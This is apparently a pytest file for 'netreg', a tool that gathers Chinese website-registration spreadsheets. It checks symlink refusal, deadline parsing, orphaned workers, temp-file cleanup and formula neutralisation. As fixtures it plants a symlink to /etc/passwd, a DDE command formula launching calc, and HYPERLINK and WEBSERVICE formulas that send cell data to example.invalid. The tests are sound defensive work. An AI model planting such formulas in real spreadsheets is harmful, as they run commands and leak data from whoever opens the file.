"""Issue 25, driven as a user would: links in the folders given, impossible deadlines, workers
that outlive a killed run, temporary files a kill leaves behind, live formulas in annotated
copies, and a reader that aborts its process under the spawn start method (Windows' way)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from builders import filled_template
from netreg.cli import app

LINUX = sys.platform.startswith("linux")


def cli(*args: str):
    result = CliRunner().invoke(app, list(args), terminal_width=200)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def netreg(*args: str, env: dict | None = None, **kw) -> subprocess.Popen:
    kw.setdefault("stdout", subprocess.PIPE)
    kw.setdefault("stderr", subprocess.PIPE)
    return subprocess.Popen([sys.executable, "-m", "netreg", *args], text=True,
                            env={**os.environ, "COLUMNS": "200", **(env or {})}, **kw)


def _secret(tmp_path: Path) -> Path:
    """A file outside the folder that a link points to: a real workbook, so that following the
    link would read it as a unit's return (as /etc/passwd linked as .csv was counted)."""
    return filled_template(tmp_path / "别处" / "机密.xlsx", "图书馆", {1: [{"site_name": "不该读到的网站"}]})


# --------------------------------------------------------------------------- 3. links

@pytest.mark.skipif(os.name == "nt", reason="symlinks need privileges on Windows")
def test_links_in_a_folder_or_named_are_never_followed_and_said_in_one_line(tmp_path):
    secret = _secret(tmp_path)
    folder = tmp_path / "回收"
    filled_template(folder / "医学院.xlsx", "医学院", {1: [{"site_name": "医学院网站"}]})
    (folder / "单位006学院.xlsx").symlink_to(secret)
    (folder / "子目录").mkdir()
    (folder / "子目录" / "口令.csv").symlink_to("/etc/passwd")
    (folder / "外面").symlink_to(secret.parent, target_is_directory=True)  # a folder elsewhere
    (folder / "断开.xlsx").symlink_to(tmp_path / "没有这个文件.xlsx")
    named = tmp_path / "直接给出.xlsx"
    named.symlink_to(secret)

    result = cli("validate", str(folder), str(named), "--as-of", "2025-11-25", "--format", "json")
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    read = {Path(f["path"]).name for f in data["files"] if f["status"] == "ok"}
    assert read == {"医学院.xlsx"}  # the good file goes on; nothing behind a link is read
    assert "不该读到的网站" not in result.stdout
    said = {Path(i["file"]).name: i for i in data["issues"] if i["code"] == "file-unreadable"}
    assert set(said) == {"单位006学院.xlsx", "口令.csv", "外面", "断开.xlsx", "直接给出.xlsx"}
    for name in ("单位006学院.xlsx", "口令.csv", "外面", "直接给出.xlsx"):
        assert said[name]["reason"] == "malicious" and "符号链接" in said[name]["message"]
    assert said["断开.xlsx"]["reason"] == "missing"

    # merge: the summary holds the unit's row only; intake: nothing behind a link is stored
    merged = cli("merge", str(folder), "-o", str(tmp_path / "汇总.xlsx"), "--as-of", "2025-11-25", "--force")
    assert merged.exit_code in (0, 1) and (tmp_path / "汇总.xlsx").exists()
    wb = openpyxl.load_workbook(tmp_path / "汇总.xlsx", read_only=True)
    values = {str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if c}
    assert "医学院网站" in values and "不该读到的网站" not in values
    assert "root:" not in " ".join(values)

    campaign = tmp_path / "活动"
    assert cli("init", str(campaign)).exit_code == 0
    taken = cli("intake", str(folder), "--campaign", str(campaign))
    assert taken.exit_code in (0, 1), taken.output
    assert "单位006学院.xlsx" in taken.output and "符号链接" in taken.output
    stored = [p.read_bytes() for p in (campaign / "收件").iterdir()]
    assert len(stored) == 1 and secret.read_bytes() not in stored
    assert not any(b"root:" in data for data in stored)


# --------------------------------------------------------------------------- 4. deadline

@pytest.mark.parametrize("written", ["11月31日", "2026-02-30", "下周五", "2月29日", "13月1日"])
def test_an_impossible_deadline_is_a_config_error_at_load(tmp_path, written):
    campaign = tmp_path / "活动"
    assert cli("init", str(campaign)).exit_code == 0
    toml = campaign / "netreg.toml"
    text = toml.read_text(encoding="utf-8")
    assert 'deadline = "11月25日"' in text
    toml.write_text(text.replace('deadline = "11月25日"', f'deadline = "{written}"'), encoding="utf-8")
    filled_template(tmp_path / "医学院.xlsx", "医学院", {1: [{"site_name": "医学院网站"}]})
    for args in (["status", "--campaign", str(campaign)],
                 ["validate", str(tmp_path / "医学院.xlsx"), "-c", str(toml)]):
        result = cli(*args)
        assert result.exit_code == 2, result.output
        lines = [line for line in result.output.splitlines() if line.strip()]
        assert len(lines) == 1 and "deadline" in lines[0] and written in lines[0], lines
        assert "Traceback" not in result.output


def test_a_real_deadline_is_kept_and_as_of_takes_the_notice_s_way_of_writing_a_day(tmp_path):
    from datetime import date

    campaign = tmp_path / "活动"
    assert cli("init", str(campaign)).exit_code == 0
    toml = campaign / "netreg.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace('deadline = "11月25日"', 'deadline = "2026年11月25日"'),
                    encoding="utf-8")
    status = cli("status", "--campaign", str(campaign), "--as-of", "11月30日", "--format", "json")
    assert status.exit_code == 0, status.output
    data = json.loads(status.stdout)
    assert data["as_of"] == date(date.today().year, 11, 30).isoformat() and data["deadline"] == "2026-11-25"
    filled_template(tmp_path / "医学院.xlsx", "医学院", {1: [{"site_name": "医学院网站"}]})
    checked = cli("validate", str(tmp_path / "医学院.xlsx"), "--as-of", "11月30日", "--format", "json")
    assert checked.exit_code in (0, 1) and json.loads(checked.stdout)["summary"]["files"] == 1
    wrong = cli("status", "--campaign", str(campaign), "--as-of", "11月31日")
    assert wrong.exit_code == 2 and "11月31日" in wrong.output


# --------------------------------------------------------------------------- 7. orphans

def _marked(token: str) -> list[int]:
    """Live processes (not zombies) whose environment carries ``token``."""
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if f"NETREG_TEST_MARK={token}".encode() not in (entry / "environ").read_bytes().split(b"\0"):
                continue
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state not in ("Z", "X"):
            pids.append(int(entry.name))
    return pids


@pytest.mark.skipif(not LINUX, reason="reads /proc")
@pytest.mark.parametrize("method", ["fork", "spawn"])
def test_killing_the_main_process_leaves_no_worker_behind(tmp_path, method):
    """kill -9 of netreg while its workers are at work (the main process kills itself as the
    first result arrives): the workers go with it instead of waiting on their queue for good."""
    import secrets

    token = secrets.token_hex(8)
    units = tmp_path / "名单.txt"
    count = 8 if method == "fork" else 32  # the fewest that make a pool (PARALLEL_MIN_UNITS, × SPAWN_FACTOR)
    units.write_text("\n".join(f"单位{n:03d}学院" for n in range(count)), encoding="utf-8")
    with open(tmp_path / "out.txt", "w") as out:  # a file, not a pipe: an orphan would hold a pipe open
        proc = netreg("template", "--units", str(units), "-o", str(tmp_path / "空白"), stdout=out, stderr=out,
                      env={"NETREG_START_METHOD": method, "NETREG_FAULT": "parallel-result:kill",
                           "NETREG_TEST_MARK": token})
    try:
        assert proc.wait(timeout=60) == -signal.SIGKILL  # the fault point fired: the run was killed mid-way
        limit = time.monotonic() + 5
        while _marked(token) and time.monotonic() < limit:
            time.sleep(0.05)
        assert _marked(token) == []
    finally:
        for pid in _marked(token):  # ours: started by this test
            os.kill(pid, signal.SIGKILL)


# --------------------------------------------------------------------------- 13. a reader that aborts, spawned

@pytest.mark.parametrize("method", ["spawn", "fork"])
def test_a_reader_that_kills_its_process_costs_one_file_with_spawned_workers_too(tmp_path, method):
    """Windows' way (NETREG_START_METHOD=spawn): the process reading 坏文件.csv dies, as when a
    native reader aborts; the run goes on, that file is unreadable and every other one is read,
    none of them in the main process (where the same abort would end the run). Forked workers
    (Linux, issue 18) are checked the same way."""
    folder = tmp_path / "回收"
    folder.mkdir()
    count = 100 if method == "spawn" else 5  # spawned: past PARALLEL_MIN_FILES × SPAWN_FACTOR, a pool
    for n in range(count):
        (folder / f"单位{n:03d}.csv").write_text(f"附件1\n序号,网站名称\n1,单位{n:03d}网站\n", encoding="utf-8")
    (folder / "坏文件.csv").write_text("附件1\n序号,网站名称\n1,坏网站\n", encoding="utf-8")
    proc = netreg("validate", str(folder), "--format", "json", "--as-of", "2025-11-25",
                  env={"NETREG_START_METHOD": method, "NETREG_FAULT": "parallel-item=坏文件.csv:kill"})
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 1, err
    data = json.loads(out)
    status = {Path(f["path"]).name: f["status"] for f in data["files"]}
    assert status.pop("坏文件.csv") == "unreadable" and len(status) == count
    assert set(status.values()) == {"ok"}
    [issue] = [i for i in data["issues"] if Path(i["file"] or "").name == "坏文件.csv"]
    assert issue["code"] == "file-unreadable" and "异常退出" in issue["message"]


# --------------------------------------------------------------------------- 7. temp files a kill leaves

def test_temp_files_a_kill_leaves_beside_an_output_and_in_the_store_are_swept_at_the_next_write(tmp_path):
    folder = tmp_path / "回收"
    filled_template(folder / "医学院.xlsx", "医学院", {1: [{"site_name": "医学院网站"}]})
    out = tmp_path / "输出"
    out.mkdir()
    ours = out / f".netreg-{os.getpid()}-live.tmp"  # a run writing here now: never touched
    ours.write_bytes(b"x")
    older = out / ".netreg-k2j4h8sa.tmp"  # an older netreg's, without a process id, two hours old
    older.write_bytes(b"x")
    os.utime(older, (time.time() - 7200,) * 2)
    young = out / ".netreg-m3n5b7vc.tmp"  # the same, a minute old: it may still be written
    young.write_bytes(b"x")

    def merge(*env):
        proc = netreg("merge", str(folder), "-o", str(out / "汇总.xlsx"), "--as-of", "2025-11-25", "--force",
                      env=dict(env))
        proc.communicate(timeout=120)
        return proc.returncode

    assert merge(("NETREG_FAULT", "atomic-write=输出:kill")) == -signal.SIGKILL  # killed before the rename
    left = sorted(p.name for p in out.glob(".netreg-*.tmp") if p not in (ours, older, young))
    assert len(left) == 1 and not (out / "汇总.xlsx").exists()
    assert merge() in (0, 1) and (out / "汇总.xlsx").exists()
    assert sorted(out.glob(".netreg-*.tmp")) == sorted([ours, young])

    campaign = tmp_path / "活动"
    assert cli("init", str(campaign)).exit_code == 0
    proc = netreg("intake", str(folder), "--campaign", str(campaign), env={"NETREG_FAULT": "atomic-write=收件:kill"})
    proc.communicate(timeout=120)
    assert proc.returncode == -signal.SIGKILL
    assert len(list((campaign / "收件").glob(".netreg-*.tmp"))) == 1
    filled_template(tmp_path / "第二轮" / "团委.xlsx", "团委", {1: [{"site_name": "团委网站"}]})
    assert cli("intake", str(tmp_path / "第二轮"), "--campaign", str(campaign)).exit_code in (0, 1)
    assert list((campaign / "收件").glob(".netreg-*.tmp")) == []


# --------------------------------------------------------------------------- 10. formulas in annotated copies

def _with_cached_value(path: Path, coord: str, value: str, *, text: bool = False) -> None:
    """Give the formula in ``coord`` of 附件1 a cached value, as Excel saves one."""
    import re
    import zipfile

    tmp = path.with_suffix(".tmp.xlsx")
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet2.xml":  # 附件1 (after 填表说明)
                xml = data.decode("utf-8")
                kind = ' t="str"' if text else ""
                xml, n = re.subn(rf'<c r="{coord}"([^>]*?)(?: t="[a-z]+")?([^>]*)>\s*(<f>[^<]*</f>)\s*(?:<v\s*/>|<v></v>)?',
                                 rf'<c r="{coord}"\g<1>\g<2>{kind}>\g<3><v>{value}</v>', xml)
                assert n == 1
                data = xml.encode("utf-8")
            zout.writestr(info, data)
    tmp.replace(path)


def test_an_annotated_copy_keeps_no_live_formula_of_the_unit(tmp_path):
    import zipfile

    from builders import first_data_row, letter
    from netreg.model.forms import FORMS_BY_ID

    form = FORMS_BY_ID[1]
    row = first_data_row(form)
    src = filled_template(tmp_path / "回收" / "医学院.xlsx", "医学院",
                         {1: [{"site_name": "医学院网站"}, {"site_name": "医学院二级网站"}]})
    wb = openpyxl.load_workbook(src)
    ws = wb["附件1"]
    dde, link, call = f"{letter(form, 'sections')}{row}", f"{letter(form, 'sections')}{row + 1}", f"{letter(form, 'owner')}{row}"
    ws[dde] = "=cmd|' /C calc'!A0"
    ws[link] = '=HYPERLINK("http://example.invalid/?"&B5,"点这里")'
    ws[call] = '=WEBSERVICE("http://example.invalid/"&C5)'
    ws[f"{letter(form, 'seq')}{row}"] = "=ROW()-4"
    wb.save(src)
    _with_cached_value(src, f"{letter(form, 'seq')}{row}", "1")  # as Excel saved it: the number the unit saw
    _with_cached_value(src, link, "点这里", text=True)  # a text result

    result = cli("validate", str(src.parent), "--as-of", "2025-11-25", "--annotate", str(tmp_path / "意见"))
    assert result.exit_code in (0, 1), result.output
    [copy] = list((tmp_path / "意见").glob("*.xlsx"))
    with zipfile.ZipFile(copy) as z:
        for name in z.namelist():
            assert not name.startswith("xl/externalLinks/"), name
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    ws = openpyxl.load_workbook(copy)["附件1"]
    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert ws[dde].value == "=cmd|' /C calc'!A0" and ws[dde].data_type == "s" and ws[dde].quotePrefix
    assert ws[call].value.startswith("=WEBSERVICE(") and ws[call].data_type == "s"
    assert ws[link].value == "点这里"  # the value the unit saw, as text
    assert ws[f"{letter(form, 'seq')}{row}"].value == 1
